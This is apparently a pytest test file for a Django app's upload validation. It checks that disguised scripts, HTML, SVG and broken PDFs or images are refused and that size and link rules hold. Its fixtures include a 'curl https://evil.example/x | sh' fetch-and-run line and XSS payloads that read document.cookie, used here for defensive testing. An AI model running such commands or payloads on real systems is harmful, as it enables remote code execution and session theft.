"""A file is what its content is: the signature of its bytes, then a parser that must open it.
Whatever its name or the browser's type say, a script, an HTML page or an SVG is refused with
a clear error on the file field, and nothing is stored: no row, no file."""

import io
import os

import pytest
from django.core.exceptions import ValidationError
from PIL import Image

from picketline.core.models import AuditEntry
from picketline.resources.models import Resource
from tests.campaigns.helpers import make_campaign
from tests.resources.helpers import make_resource, pdf_bytes, stored_files, upload

pytestmark = pytest.mark.django_db

SCRIPT = b"#!/bin/sh\ncurl https://evil.example/x | sh\n"
HTML = b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>"
PDF_THEN_HTML = b"%PDF-1.7\n<html><body><script>alert(document.cookie)</script></body></html>"
SVG = (
    b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg">'
    b"<script>alert(document.cookie)</script></svg>"
)


def _refused(settings, data, *, name="leaflet.pdf", content_type="application/pdf", **fields):
    campaign = make_campaign()
    with pytest.raises(ValidationError) as refused:
        make_resource(campaign, data=data, **fields)
    assert not Resource.objects.exists()
    assert not AuditEntry.objects.filter(action="resource.created").exists()
    assert stored_files(settings) == []
    return refused.value


def test_it_keeps_a_real_pdf_as_it_is_with_a_thumbnail_of_its_first_page(settings):
    data = pdf_bytes()
    resource = make_resource(make_campaign(), data=data)
    assert resource.content_type == "application/pdf"
    assert resource.size == len(data)
    with resource.file.open("rb") as stored:
        assert stored.read() == data
    with resource.thumbnail.open("rb") as thumbnail, Image.open(thumbnail) as image:
        assert image.format == "JPEG"
        assert max(image.size) <= 320
    assert len(stored_files(settings)) == 2


def test_it_stores_files_under_random_names_not_the_uploaders(settings):
    resource = make_resource(make_campaign(), data=pdf_bytes())
    assert "leaflet" not in resource.file.name
    assert resource.file.name.endswith(".pdf")
    assert len(os.path.basename(resource.file.name)) == 36


@pytest.mark.parametrize(
    ("data", "why"),
    [
        (SCRIPT, "a shell script named leaflet.pdf"),
        (HTML, "an HTML page named leaflet.pdf"),
        (SVG, "an SVG with a script"),
        (b"", "an empty file"),
    ],
)
def test_it_refuses_what_is_not_a_pdf_or_an_image(settings, data, why):
    error = _refused(settings, data)
    assert error.message_dict["file"], why
    assert "Only PDF documents and JPEG, PNG or WebP images" in error.message_dict["file"][0]


def test_it_refuses_a_file_that_starts_like_a_pdf_but_does_not_parse(settings):
    error = _refused(settings, PDF_THEN_HTML)
    assert "This PDF cannot be read" in error.message_dict["file"][0]


def test_it_refuses_a_pdf_whose_ending_was_cut_off(settings):
    data = pdf_bytes()
    error = _refused(settings, data[:200])
    assert "This PDF cannot be read" in error.message_dict["file"][0]


def test_it_refuses_an_image_that_does_not_decode(settings):
    png_header = b"\x89PNG\r\n\x1a\n" + b"\x00" * 64
    error = _refused(settings, png_header)
    assert "This image cannot be read" in error.message_dict["file"][0]


def test_it_refuses_a_file_larger_than_any_limit_before_reading_it(settings):
    settings.RESOURCE_MAX_PDF_MB = 1
    settings.RESOURCE_MAX_IMAGE_MB = 1
    big = pdf_bytes() + b"%" * (1024 * 1024)
    error = _refused(settings, big)
    assert "too large" in error.message_dict["file"][0]


def test_it_holds_images_to_their_own_limit(settings):
    settings.RESOURCE_MAX_PDF_MB = 5
    settings.RESOURCE_MAX_IMAGE_MB = 1
    noise = Image.frombytes("RGB", (1000, 1000), os.urandom(3_000_000))
    out = io.BytesIO()
    noise.save(out, format="PNG")
    assert out.tell() > 1024 * 1024
    error = _refused(settings, out.getvalue(), kind="image")
    assert "too large" in error.message_dict["file"][0]


def test_it_trusts_the_content_not_the_name_or_the_browsers_type(settings):
    campaign = make_campaign()
    from picketline.resources import services

    resource = services.resource_create(
        owner=campaign,
        by=None,
        upload=upload(pdf_bytes(), name="photo.jpg", content_type="image/jpeg"),
        title="Leaflet",
        kind="leaflet",
        language="en",
        visibility="public",
    )
    assert resource.content_type == "application/pdf"
    assert resource.download_name() == "leaflet.pdf"


def test_it_refuses_a_link_that_is_not_https(settings):
    error = _refused(settings, None, link="http://video.example.org/rally", kind="video")
    assert "https://" in error.message_dict["link"][0]


def test_a_video_is_a_link(settings):
    error = _refused(settings, pdf_bytes(), kind="video")
    assert "link" in error.message_dict


def test_it_refuses_both_a_file_and_a_link(settings):
    error = _refused(settings, pdf_bytes(), link="https://video.example.org/rally")
    assert "file" in error.message_dict


def test_the_database_refuses_a_resource_with_a_file_and_a_link():
    from django.db import IntegrityError

    resource = make_resource(make_campaign(), data=pdf_bytes())
    with pytest.raises(IntegrityError):
        Resource.objects.filter(pk=resource.pk).update(link="https://video.example.org/x")


def test_the_database_refuses_a_resource_of_no_one():
    from django.db import IntegrityError

    resource = make_resource(make_campaign(), link="https://video.example.org/x", kind="video")
    with pytest.raises(IntegrityError):
        Resource.objects.filter(pk=resource.pk).update(campaign=None)


def test_a_good_file_with_a_refused_row_leaves_no_file_behind(settings):
    error = _refused(settings, pdf_bytes(), title="x" * 201)
    assert "title" in error.message_dict
